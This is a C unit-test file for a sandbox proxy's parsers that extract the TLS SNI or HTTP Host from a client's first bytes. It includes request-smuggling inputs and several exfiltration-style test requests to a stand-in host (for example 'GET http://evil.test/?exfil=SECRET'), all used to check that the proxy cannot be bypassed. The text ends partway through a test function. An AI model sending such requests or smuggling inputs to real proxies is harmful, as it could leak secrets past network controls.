/* test_peek.c — unit tests for the peek parsers (netproxy/peek.c,
 * peek_tls.c, peek_http.c; the API is netproxy/peek.h) that find the
 * host name in the first bytes of a sandboxed client's connection (TLS SNI,
 * HTTP Host; DESIGN.md "The network mechanism", point 5): protocol
 * detection and HTTP here, TLS in test_peek_tls.c.
 *
 * The ClientHellos and requests were captured on 127.0.0.1 from real
 * clients (curl, openssl s_client, node, python, git, wget); the same bytes
 * seed fuzz/corpus/tls_sni and fuzz/corpus/http_host.  Malformed variants are
 * derived from them (re-fragmented, extensions added or dropped) or written
 * out by hand.
 */
#include "netproxy/peek.h"
#include "tap.h"
#include "test_peek.h"

#include <stdint.h>
#include <string.h>

static uint8_t big[2 * PEEK_TLS_MAX + 4096];

struct http_case {
	const char *what;
	const char *req;
	enum peek_result want;
	const char *host;
	uint16_t port;
};

/* Real requests, byte for byte as captured. */
static const struct http_case http_real[] = {
	{ "curl", "GET /index.html HTTP/1.1\r\nHost: example.com:35859\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
	  PEEK_FOUND, "example.com", 35859 },
	{ "curl -0", "GET / HTTP/1.0\r\nHost: www.Example.ORG:25472\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
	  PEEK_FOUND, "www.example.org", 25472 },
	{ "curl CONNECT", "CONNECT tunnel.test:443 HTTP/1.1\r\nHost: tunnel.test:443\r\nUser-Agent: curl/7.88.1\r\nProxy-Connection: Keep-Alive\r\n\r\n",
	  PEEK_FOUND, "tunnel.test", 443 },
	{ "curl POST", "POST /v1/items?x=1 HTTP/1.1\r\nHost: api.example.net:26767\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\nX-Thing: v\r\nContent-Length: 7\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=1&b=2",
	  PEEK_FOUND, "api.example.net", 26767 },
	{ "curl -x (absolute-form)", "GET http://proxied.test/path HTTP/1.1\r\nHost: proxied.test\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\nProxy-Connection: Keep-Alive\r\n\r\n",
	  PEEK_FOUND, "proxied.test", 0 },
	{ "curl -x IPv6", "GET http://[2001:DB8::1]:8080/v6 HTTP/1.1\r\nHost: [2001:DB8::1]:8080\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\nProxy-Connection: Keep-Alive\r\n\r\n",
	  PEEK_FOUND, "2001:db8::1", 8080 },
	{ "git", "GET /repo.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: git.test:27269\r\nUser-Agent: git/2.39.5\r\nAccept: */*\r\nAccept-Encoding: deflate, gzip, br, zstd\r\nAccept-Language: C, *;q=0.9\r\nPragma: no-cache\r\nGit-Protocol: version=2\r\n\r\n",
	  PEEK_FOUND, "git.test", 27269 },
	{ "node", "GET /n HTTP/1.1\r\nHost: node.test:34251\r\nConnection: keep-alive\r\n\r\n",
	  PEEK_FOUND, "node.test", 34251 },
	{ "node, IP", "GET / HTTP/1.1\r\nHost: 127.0.0.1:27516\r\nConnection: keep-alive\r\n\r\n",
	  PEEK_FOUND, "127.0.0.1", 27516 },
	{ "python urllib", "GET /py HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: 127.0.0.1:26858\r\nUser-Agent: Python-urllib/3.11\r\nConnection: close\r\n\r\n",
	  PEEK_FOUND, "127.0.0.1", 26858 },
	{ "python http.client", "GET /x HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: python.test\r\n\r\n",
	  PEEK_FOUND, "python.test", 0 },
	{ "wget", "GET /w HTTP/1.1\r\nHost: 127.0.0.1:21925\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\nAccept-Encoding: identity\r\nConnection: Keep-Alive\r\n\r\n",
	  PEEK_FOUND, "127.0.0.1", 21925 },
};

#define R(req) "GET / HTTP/1.1\r\n" req "\r\n"

/* Hand-written edge cases: each a complete head (or a decided prefix). */
static const struct http_case http_cases[] = {
	/* Host syntax */
	{ "no space after colon", R("Host:a.test\r\n"), PEEK_FOUND, "a.test", 0 },
	{ "OWS trimmed", R("Host: \t a.test \t \r\n"), PEEK_FOUND, "a.test", 0 },
	{ "name case-insensitive", R("hOsT: A.Test\r\n"), PEEK_FOUND, "a.test", 0 },
	{ "trailing dot dropped", R("Host: A.Test.:8080\r\n"), PEEK_FOUND, "a.test", 8080 },
	{ "two trailing dots", R("Host: a.test..\r\n"), PEEK_INVALID, NULL, 0 },
	{ "leading dot", R("Host: .a.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "lone dot", R("Host: .\r\n"), PEEK_INVALID, NULL, 0 },
	{ "underscore", R("Host: _srv.a-b.test\r\n"), PEEK_FOUND, "_srv.a-b.test", 0 },
	{ "port 65535", R("Host: a.test:65535\r\n"), PEEK_FOUND, "a.test", 65535 },
	{ "port 0", R("Host: a.test:0\r\n"), PEEK_INVALID, NULL, 0 },
	{ "port 65536", R("Host: a.test:65536\r\n"), PEEK_INVALID, NULL, 0 },
	{ "port 6 digits", R("Host: a.test:000080\r\n"), PEEK_INVALID, NULL, 0 },
	{ "empty port", R("Host: a.test:\r\n"), PEEK_INVALID, NULL, 0 },
	{ "port not digits", R("Host: a.test:8o\r\n"), PEEK_INVALID, NULL, 0 },
	{ "two ports", R("Host: a.test:80:80\r\n"), PEEK_INVALID, NULL, 0 },
	{ "empty Host", R("Host:\r\n"), PEEK_INVALID, NULL, 0 },
	{ "blank Host", R("Host:   \r\n"), PEEK_INVALID, NULL, 0 },
	{ "userinfo in Host", R("Host: user@a.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "list in Host", R("Host: a.test, b.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "space in Host", R("Host: a.test b.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "percent in Host", R("Host: a%2etest\r\n"), PEEK_INVALID, NULL, 0 },
	{ "obs-text in Host", R("Host: \xc3\xa9.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "label of 64", R("Host: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.test\r\n"),
	  PEEK_INVALID, NULL, 0 },
	{ "IPv6", R("Host: [::1]\r\n"), PEEK_FOUND, "::1", 0 },
	{ "IPv6 port", R("Host: [0:0:0:0:0:0:0:1]:80\r\n"), PEEK_FOUND, "::1", 80 },
	{ "IPv6 v4-mapped", R("Host: [::FFFF:10.0.0.1]\r\n"), PEEK_FOUND, "::ffff:10.0.0.1", 0 },
	{ "IPv6 unbracketed", R("Host: ::1\r\n"), PEEK_INVALID, NULL, 0 },
	{ "IPv6 zone", R("Host: [fe80::1%25eth0]\r\n"), PEEK_INVALID, NULL, 0 },
	{ "IPvFuture", R("Host: [v1.x]\r\n"), PEEK_INVALID, NULL, 0 },
	{ "IPv6 unclosed", R("Host: [::1\r\n"), PEEK_INVALID, NULL, 0 },
	{ "IPv6 junk after", R("Host: [::1]x\r\n"), PEEK_INVALID, NULL, 0 },
	{ "IPv6 bad", R("Host: [1::2::3]\r\n"), PEEK_INVALID, NULL, 0 },
	{ "IPv6 empty", R("Host: []\r\n"), PEEK_INVALID, NULL, 0 },
	/* one Host, and smuggling */
	{ "two Host", R("Host: a.test\r\nHost: b.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "two equal Host", R("Host: a.test\r\nhost: a.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "space before colon", R("Host : a.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "tab before colon", R("Host\t: a.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "obs-fold of Host", R("Host: a.test\r\n b.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "obs-fold elsewhere", R("Host: a.test\r\nX-A: 1\r\n\t2\r\n"), PEEK_INVALID, NULL, 0 },
	{ "space before first header", "GET / HTTP/1.1\r\n Host: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "bare LF ends a header", "GET / HTTP/1.1\r\nX: 1\nHost: b.test\r\nHost: a.test\r\n\r\n",
	  PEEK_INVALID, NULL, 0 },
	{ "bare LF everywhere", "GET / HTTP/1.1\nHost: a.test\n\n", PEEK_INVALID, NULL, 0 },
	{ "bare LF at the end", "GET / HTTP/1.1\r\nHost: a.test\r\n\n", PEEK_INVALID, NULL, 0 },
	{ "bare CR", R("X: a\rHost: b.test\r\nHost: a.test\r\n"), PEEK_INVALID, NULL, 0 },
	{ "header name not a token", R("Host: a.test\r\nX(y): 1\r\n"), PEEK_INVALID, NULL, 0 },
	{ "header without colon", R("Host: a.test\r\nXY\r\n"), PEEK_INVALID, NULL, 0 },
	{ "empty header name", R("Host: a.test\r\n: 1\r\n"), PEEK_INVALID, NULL, 0 },
	{ "obs-text elsewhere", R("Host: a.test\r\nX-Name: caf\xc3\xa9\r\n"), PEEK_FOUND, "a.test", 0 },
	{ "HTAB in a value", R("Host: a.test\r\nX: a\tb\r\n"), PEEK_FOUND, "a.test", 0 },
	{ "X-Host ignored", R("X-Host: b.test\r\nHost: a.test\r\nX-Forwarded-Host: c.test\r\n"),
	  PEEK_FOUND, "a.test", 0 },
	{ "Hostname is not Host", R("Hostname: b.test\r\nHost: a.test\r\n"), PEEK_FOUND, "a.test", 0 },
	/* control characters */
	{ "NUL in a value", R("Host: a.test\r\nX: a\0b\r\n"), PEEK_INVALID, NULL, 0 },
	{ "NUL in Host", R("Host: a.test\0.evil\r\n"), PEEK_INVALID, NULL, 0 },
	{ "NUL in the target", "GET /\0 HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "DEL in a value", R("Host: a.test\r\nX: \x7f\r\n"), PEEK_INVALID, NULL, 0 },
	{ "ESC in a value", R("Host: a.test\r\nX: \x1b[31m\r\n"), PEEK_INVALID, NULL, 0 },
	{ "VT in Host", R("Host: a.test\x0b\r\n"), PEEK_INVALID, NULL, 0 },
	/* request line */
	{ "HTTP/1.1 without Host", "GET / HTTP/1.1\r\nAccept: */*\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "HTTP/1.0 without Host", "GET / HTTP/1.0\r\nAccept: */*\r\n\r\n", PEEK_ABSENT, NULL, 0 },
	{ "HTTP/1.0, no headers", "GET / HTTP/1.0\r\n\r\n", PEEK_ABSENT, NULL, 0 },
	{ "HTTP/1.2", "GET / HTTP/1.2\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "HTTP/2.0", "GET / HTTP/2.0\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "lowercase version", "GET / http/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "HTTP/0.9", "GET /\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "HTTP/0.9, absolute", "GET http://a.test/\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "two spaces", "GET  / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "space at the end", "GET / HTTP/1.1 \r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "tab separator", "GET\t/ HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "space in target", "GET /a b HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "obs-text in target", "GET /\xc3\xa9 HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "empty line first", "\r\nGET / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "empty lines first", "\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: b.test\r\n\r\n", PEEK_FOUND, "b.test", 0 },
	{ "bare LF first", "\nGET / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "bare CR first", "\rGET / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "blank first", " GET / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "other method token", "PROPFIND /dav HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "lower-case method", "get / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "M-SEARCH", "M-SEARCH /x HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "M-SEARCH *", "M-SEARCH * HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "control byte in target", "GET /\x01 HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "binary first byte", "\x80GET / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "h2c preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "GET *", "GET * HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "relative target", "GET a/b HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	/* absolute-form */
	{ "absolute, Host agrees", "GET http://a.test/x HTTP/1.1\r\nHost: A.TEST.\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "absolute, Host differs", "GET http://a.test/x HTTP/1.1\r\nHost: b.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "absolute, port from Host", "GET http://a.test/x HTTP/1.1\r\nHost: a.test:8080\r\n\r\n",
	  PEEK_FOUND, "a.test", 8080 },
	{ "absolute, ports agree", "GET http://a.test:81/ HTTP/1.1\r\nHost: a.test:81\r\n\r\n", PEEK_FOUND, "a.test", 81 },
	{ "absolute, ports differ", "GET http://a.test:81/ HTTP/1.1\r\nHost: a.test:82\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "absolute, scheme case", "GET HTTP://A.test:80?q HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 80 },
	{ "absolute https", "GET https://a.test#f HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "absolute, no Host 1.1", "GET http://a.test/ HTTP/1.1\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "absolute, no Host 1.0", "GET http://a.test/ HTTP/1.0\r\n\r\n", PEEK_FOUND, "a.test", 0 },
	{ "absolute, userinfo", "GET http://a.test@b.test/ HTTP/1.1\r\nHost: b.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "absolute, other scheme", "GET ftp://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "absolute, empty authority", "GET http:///x HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "absolute, IPv6", "GET http://[::1]:81/ HTTP/1.1\r\nHost: [::0:1]:81\r\n\r\n", PEEK_FOUND, "::1", 81 },
	/* CONNECT */
	{ "CONNECT, no Host 1.0", "CONNECT a.test:443 HTTP/1.0\r\n\r\n", PEEK_FOUND, "a.test", 443 },
	{ "CONNECT, no Host 1.1", "CONNECT a.test:443 HTTP/1.1\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "CONNECT, Host differs", "CONNECT a.test:443 HTTP/1.1\r\nHost: b.test:443\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "CONNECT, no port", "CONNECT a.test HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "CONNECT, origin-form", "CONNECT / HTTP/1.1\r\nHost: a.test\r\n\r\n", PEEK_INVALID, NULL, 0 },
	{ "CONNECT, IPv6", "CONNECT [2001:db8::5]:443 HTTP/1.1\r\nHost: [2001:db8::5]:443\r\n\r\n",
	  PEEK_FOUND, "2001:db8::5", 443 },
	/* decided before the end of the head */
	{ "early: two Host", "GET / HTTP/1.1\r\nHost: a.test\r\nHost: b.test\r\n", PEEK_INVALID, NULL, 0 },
	{ "early: bad request line", "GET / HTTP/1.1 x\r\n", PEEK_INVALID, NULL, 0 },
	{ "early: NUL", "GET / HT\0", PEEK_INVALID, NULL, 0 },
	{ "early: bare LF", "GET / HTTP/1.1\n", PEEK_INVALID, NULL, 0 },
	{ "early: CR then x", "GET / HTTP/1.1\rx", PEEK_INVALID, NULL, 0 },
	/* not decided yet */
	{ "partial line", "GET / HTTP/1.1\r\nHost: a.te", PEEK_NEED_MORE, NULL, 0 },
	{ "ends in CR", "GET / HTTP/1.1\r\nHost: a.test\r\n\r", PEEK_NEED_MORE, NULL, 0 },
	{ "one line only", "GET / HTTP/1.1\r\nHost: a.test\r\n", PEEK_NEED_MORE, NULL, 0 },
};


/* The request's length: the case strings may hold NULs. */
static size_t case_len(const struct http_case *c)
{
	size_t n = strlen(c->req);

	/* Cases with an embedded NUL: take the rest after it too. */
	if (strstr(c->what, "NUL")) {
		const char *p = c->req + n + 1;

		n += 1 + strlen(p);
	}
	return n;
}

static void test_detect(void)
{
	static const struct {
		const char *s;
		size_t n;
		enum peek_proto want;
	} t[] = {
		{ "", 0, PEEK_PROTO_NEED_MORE },
		{ "G", 1, PEEK_PROTO_NEED_MORE },
		{ "GET", 3, PEEK_PROTO_NEED_MORE },
		{ "GET ", 4, PEEK_PROTO_NEED_MORE },
		{ "GET / ", 6, PEEK_PROTO_NEED_MORE },
		{ "GET / HTTP", 10, PEEK_PROTO_NEED_MORE },
		{ "GET / HTTP/", 11, PEEK_PROTO_HTTP },
		{ "GET / HTTP/1.1\r\n", 16, PEEK_PROTO_HTTP },
		{ "GETX", 4, PEEK_PROTO_NEED_MORE },	/* a longer method, maybe */
		/* methods the old list missed, any case */
		{ "PROPFIND /dav HTTP/1.1\r\n", 24, PEEK_PROTO_HTTP },
		{ "get / HTTP/1.1\r\n", 16, PEEK_PROTO_HTTP },
		{ "Get / http/1.1\r\n", 16, PEEK_PROTO_HTTP },
		{ "M-SEARCH * HTTP/1.1\r\n", 21, PEEK_PROTO_HTTP },
		{ "X!#$%&'*+-.^_`|~9 / HTTP/1.0\r\n", 30, PEEK_PROTO_HTTP },
		{ "HEAD / HTTP/1.0", 15, PEEK_PROTO_HTTP },
		{ "CONNECT a:1 HTTP/1.1", 20, PEEK_PROTO_HTTP },
		{ "OPTIONS * HTTP/1.1", 18, PEEK_PROTO_HTTP },
		/* what lenient servers skip or split on */
		{ "\r\n\r\nGET / HTTP/1.1\r\n", 20, PEEK_PROTO_HTTP },
		{ "\n\nGET / HTTP/1.1\n", 17, PEEK_PROTO_HTTP },
		{ "\r\n\r\n", 4, PEEK_PROTO_NEED_MORE },
		{ "GET / HTTP/1.1\nHost: a.test\n\n", 29, PEEK_PROTO_HTTP },	/* LF only */
		{ "  GET  /  HTTP/1.1", 18, PEEK_PROTO_HTTP },
		{ "GET\t/\tHTTP/1.1", 14, PEEK_PROTO_HTTP },
		{ "GET\x0b/\x0cHTTP/1.1", 14, PEEK_PROTO_HTTP },
		{ "GET\r/\rHTTP/1.1\n", 15, PEEK_PROTO_HTTP },
		/* whitespace to Python's str.split() */
		{ "GET\xa0/\xa0HTTP/1.1", 14, PEEK_PROTO_HTTP },
		{ "\xa0GET\x85/\x1cHTTP/1.1", 15, PEEK_PROTO_HTTP },
		{ "GET\x1f/\x1dHTTP/1.0", 14, PEEK_PROTO_HTTP },
		{ "GET\xa0http://evil.test/\n", 22, PEEK_PROTO_HTTP09 },
		{ "GET /\xc3\xa9 HTTP/1.1", 17, PEEK_PROTO_HTTP },	/* UTF-8 target */
		{ "GET /a b HTTP/1.1\r\n", 19, PEEK_PROTO_HTTP },	/* a bad target */
		{ "GET / HTTP/1.1 x\r\n", 18, PEEK_PROTO_HTTP },
		{ "GET HTTP/1.1\r\n", 14, PEEK_PROTO_HTTP },
		/* h2c prior knowledge */
		{ "PRI * HTTP/2.0\r\n", 16, PEEK_PROTO_H2C },
		{ "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24, PEEK_PROTO_H2C },
		{ "PRI * HTTP/2", 12, PEEK_PROTO_NEED_MORE },
		{ "P", 1, PEEK_PROTO_NEED_MORE },
		{ "PRI * HTTP/1.1\r\n", 16, PEEK_PROTO_HTTP },
		{ "\r\nPRI * HTTP/2.0\r\n", 18, PEEK_PROTO_HTTP },
		/* HTTP/0.9: a method and a target, no version */
		{ "GET /\r\n", 7, PEEK_PROTO_HTTP09 },
		{ "GET /\n", 6, PEEK_PROTO_HTTP09 },
		{ "GET http://evil.test/?exfil=SECRET\r\n", 36, PEEK_PROTO_HTTP09 },
		{ "GET http://evil.test/?exfil=SECRET\r\nHost: evil.test\r\n\r\n", 55, PEEK_PROTO_HTTP09 },
		{ "GET HTTPS://evil.test\r\n", 23, PEEK_PROTO_HTTP09 },
		{ "GET  /x \t\r\n", 11, PEEK_PROTO_HTTP09 },	/* blanks around the target */
		{ "\r\n\r\nGET /\r\n", 11, PEEK_PROTO_HTTP09 },	/* after empty lines */
		{ "GET exfil-SECRET\r\n", 18, PEEK_PROTO_HTTP09 },	/* GET: any word (Python) */
		{ "GET key\r\n", 9, PEEK_PROTO_HTTP09 },	/* ... Redis' inline GET too */
		{ "get /x\r\n", 8, PEEK_PROTO_HTTP09 },	/* a target: any method */
		{ "PROPFIND http://evil.test/\r\n", 28, PEEK_PROTO_HTTP09 },
		{ "OPTIONS *\r\n", 11, PEEK_PROTO_HTTP09 },
		{ "GET svn+ssh://evil.test/\r\n", 26, PEEK_PROTO_HTTP09 },
		/* not HTTP: ruled out by a byte */
		{ "get key\r\n", 9, PEEK_PROTO_UNKNOWN },	/* memcached */
		{ "GETS key\r\n", 10, PEEK_PROTO_UNKNOWN },
		{ "USER anonymous\r\n", 16, PEEK_PROTO_UNKNOWN },	/* FTP, POP3 */
		{ "NICK bob\r\n", 10, PEEK_PROTO_UNKNOWN },	/* IRC */
		{ "get http:evil.test\r\n", 20, PEEK_PROTO_UNKNOWN },	/* no "//" */
		{ "get 1http://evil.test/\r\n", 24, PEEK_PROTO_UNKNOWN },	/* no scheme */
		{ "GET / x\r\n", 9, PEEK_PROTO_UNKNOWN },	/* three words: no version, no 0.9 */
		{ "GET\r\n", 5, PEEK_PROTO_UNKNOWN },
		{ "PING\r\n", 6, PEEK_PROTO_UNKNOWN },
		{ "SSH-2.0-OpenSSH_9.2\r\n", 21, PEEK_PROTO_UNKNOWN },
		{ "EHLO mail.test\r\n", 16, PEEK_PROTO_UNKNOWN },
		{ "a001 LOGIN user pass\r\n", 22, PEEK_PROTO_UNKNOWN },
		{ "DESCRIBE rtsp://a/ RTSP/1.0\r\n", 29, PEEK_PROTO_UNKNOWN },
		{ "GET / HTTX/1.1\r\n", 16, PEEK_PROTO_UNKNOWN },
		{ "GET(/ HTTP/1.1", 14, PEEK_PROTO_UNKNOWN },	/* '(' is no tchar */
		{ "GET /\x01 HTTP/1.1\r\n", 17, PEEK_PROTO_UNKNOWN },	/* a control byte */
		{ "GET\x1b/ HTTP/1.1", 14, PEEK_PROTO_UNKNOWN },
		{ "0\x0c\x02\x01\x01`\x07\x02\x01\x03", 10, PEEK_PROTO_UNKNOWN },	/* LDAP bind */
		{ "0 \x02\x01\x01", 5, PEEK_PROTO_UNKNOWN },
		{ "/ HTTP/1.1", 10, PEEK_PROTO_UNKNOWN },
		{ "*1\r\n$4\r\nPING\r\n", 14, PEEK_PROTO_UNKNOWN },	/* Redis */
		{ "\x16", 1, PEEK_PROTO_NEED_MORE },
		{ "\x16\x03", 2, PEEK_PROTO_TLS },
		{ "\x16\x02", 2, PEEK_PROTO_UNKNOWN },
		{ "\x17\x03\x03", 3, PEEK_PROTO_UNKNOWN },
		{ "\x80\x2e\x01\x00\x02", 5, PEEK_PROTO_UNKNOWN },	/* SSLv2 hello */
		{ "\0\0\0\x08\x04\xd2\x16\x2f", 8, PEEK_PROTO_UNKNOWN },	/* PostgreSQL */
		{ "\xff\xfe", 2, PEEK_PROTO_UNKNOWN },
		{ "\0", 1, PEEK_PROTO_UNKNOWN },
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		enum peek_proto want = t[i].want;
		int stable = 1;

		is_int(peek_detect((const uint8_t *)t[i].s, t[i].n), want, "detect '%.*s' (%zu bytes)",
		       (int)(t[i].n && t[i].s[0] >= 0x20 ? strcspn(t[i].s, "\r\n\t\v\f") : 0), t[i].s, t[i].n);
		/* Every prefix is undecided or decided the same way. */
		for (size_t k = 0; k < t[i].n; k++) {
			enum peek_proto p = peek_detect((const uint8_t *)t[i].s, k);

			stable &= p == PEEK_PROTO_NEED_MORE || p == want;
		}
		ok(stable, "detect case %zu: its prefixes agree", i);
		if (want != PEEK_PROTO_NEED_MORE)
			is_int(peek_detect_end((const uint8_t *)t[i].s, t[i].n), want,
			       "detect case %zu: the same when the stream ends there", i);
	}

	/* The stream ends (the client shut its side): the line so far is a
	 * whole line to a server (Python's http.server serves it). */
	static const struct {
		const char *s;
		enum peek_proto want;
	} e[] = {
		{ "GET http://evil.test/?exfil=SECRET", PEEK_PROTO_HTTP09 },
		{ "GET /x ", PEEK_PROTO_HTTP09 },
		{ "\r\nget /", PEEK_PROTO_HTTP09 },
		{ "get key", PEEK_PROTO_UNKNOWN },
		{ "EHLO mail.test", PEEK_PROTO_UNKNOWN },
		{ "SSH-2.0-OpenSSH_9.2", PEEK_PROTO_UNKNOWN },
		{ "GET", PEEK_PROTO_UNKNOWN },
		{ "GET / HTTP", PEEK_PROTO_UNKNOWN },	/* three words, no version */
		{ "\r\n", PEEK_PROTO_UNKNOWN },
		{ "", PEEK_PROTO_UNKNOWN },
		{ "\x16", PEEK_PROTO_UNKNOWN },
		{ "PRI * HTTP/2", PEEK_PROTO_HTTP },	/* a partial h2c preface: HTTP/2 */
		{ "GET / HTTP/1.1\r\nHost: a", PEEK_PROTO_HTTP },
	};
	for (size_t i = 0; i < sizeof(e) / sizeof(e[0]); i++)
		is_int(peek_detect_end((const uint8_t *)e[i].s, strlen(e[i].s)), e[i].want,
		       "detect at the stream's end: '%s'", e[i].s[0] == '\r' || e[i].s[0] == '\x16' ? "..." : e[i].s);
	is_int(peek_detect(hello_curl, hello_curl_len), PEEK_PROTO_TLS, "detect curl's ClientHello");
	is_int(peek_detect(hello_tls10, hello_tls10_len), PEEK_PROTO_TLS, "detect a TLS 1.0 ClientHello");

	/* A method, or blanks, as long as the bound: refused as HTTP, not let
	 * through as "something else", and undecided one byte before. */
	memset(big, 'A', PEEK_HTTP_MAX);
	is_int(peek_detect(big, PEEK_HTTP_MAX - 1), PEEK_PROTO_NEED_MORE, "a method token of PEEK_HTTP_MAX - 1 bytes: NEED_MORE");
	is_int(peek_detect(big, PEEK_HTTP_MAX), PEEK_PROTO_HTTP, "... of PEEK_HTTP_MAX bytes: HTTP");
	memset(big, '\n', PEEK_HTTP_MAX);
	is_int(peek_detect(big, PEEK_HTTP_MAX), PEEK_PROTO_HTTP, "PEEK_HTTP_MAX empty lines: HTTP");
	memcpy(big, "GET /", 5);
	memset(big + 5, 'x', PEEK_HTTP_MAX);
	is_int(peek_detect(big, PEEK_HTTP_MAX + 5), PEEK_PROTO_HTTP, "a target past the bound: HTTP");
}

/* ---- HTTP tests ----------------------------------------------------------- */

static void check_http(const struct http_case *c, bool prefixes)
{
	char host[PEEK_HOST_MAX];
	struct peek_http_info info;
	size_t n = case_len(c);
	enum peek_result r;

	memset(&info, 0xa5, sizeof(info));
	r = peek_http_host_ex((const uint8_t *)c->req, n, host, sizeof(host), &info);
	is_int(r, c->want, "http %s: %s", c->what, peek_result_name(c->want));
	is_str(str(host), c->host ? c->host : "", "http %s: host", c->what);
	if (c->want == PEEK_FOUND)
		is_int(info.port, c->port, "http %s: port", c->what);
	else if (c->want != PEEK_ABSENT)
		ok(info.port == 0 && info.minor == 0, "http %s: info zeroed", c->what);
	is_int(peek_http_host((const uint8_t *)c->req, n, host, sizeof(host)), c->want, "http %s: without info",
	       c->what);
	/* What the Host parser accepts, the proxy sends to it: detected as
	 * HTTP; what is not detected as HTTP (or TLS) the parser refuses. */
	if (c->want == PEEK_FOUND || c->want == PEEK_ABSENT)
		is_int(peek_detect((const uint8_t *)c->req, n), PEEK_PROTO_HTTP, "http %s: detected as HTTP", c->what);
	else if (peek_detect((const uint8_t *)c->req, n) == PEEK_PROTO_UNKNOWN ||
		 peek_detect((const uint8_t *)c->req, n) == PEEK_PROTO_HTTP09)
		is_int(r, PEEK_INVALID, "http %s: not detected as HTTP, and INVALID", c->what);
	if (prefixes) {
		int good = 1;

		for (size_t i = 0; i < n && good; i++) {
			/* A complete head followed by a body is decided early. */
			const char *end = strstr(c->req, "\r\n\r\n");

			if (end && i >= (size_t)(end - c->req) + 4)
				break;
			if (peek_http_host((const uint8_t *)c->req, i, host, sizeof(host)) != PEEK_NEED_MORE || host[0])
				good = 0;
		}
		ok(good, "http %s: every prefix is NEED_MORE", c->what);
	}
	if (c->want != PEEK_NEED_MORE) {
		/* Decisions are stable: more bytes change nothing. */
		memcpy(big, c->req, n);
		memcpy(big + n, "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n", 37);
		is_int(peek_http_host((const uint8_t *)big, n + 37, host, sizeof(host)), c->want,
		       "http %s: same with more bytes", c->what);
	}
}

static void test_http(void)
{
	struct peek_http_info info;
	char host[PEEK_HOST_MAX];

	for (size_t i = 0; i < sizeof(http_real) / sizeof(http_real[0]); i++)
		check_http(&http_real[i], true);
